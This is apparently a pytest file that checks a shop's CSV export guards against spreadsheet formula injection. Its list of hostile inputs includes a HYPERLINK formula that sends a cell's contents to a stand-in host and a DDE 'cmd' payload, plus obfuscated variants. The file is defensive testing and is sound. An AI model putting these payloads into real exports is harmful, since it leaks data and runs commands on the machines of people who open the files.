"""Every CSV the shop writes shows hostile text as text, never as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest

from shop.core.spreadsheet import safe_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '\uff1dHYPERLINK("http://x.example")',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000@SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Jane Smith", "서울", "SW1A 1AA", "a=b", "", 12, 4.5, -3])
def test_plain_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_write_csv_neutralises_every_cell_and_counts_rows():
    out = io.StringIO()
    assert write_csv(out, ["name", "city"], [[name, "=cmd"] for name in HOSTILE]) == len(HOSTILE)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["name", "city"]
    assert all(cell.startswith("'") for row in rows[1:] for cell in row)


def test_every_csv_the_shop_writes_goes_through_write_csv():
    """A csv.writer anywhere else would skip the formula guard."""
    shop = Path(__file__).resolve().parents[1] / "shop"
    writers = [
        path.relative_to(shop.parent).as_posix()
        for path in shop.rglob("*.py")
        if path.name != "spreadsheet.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == []
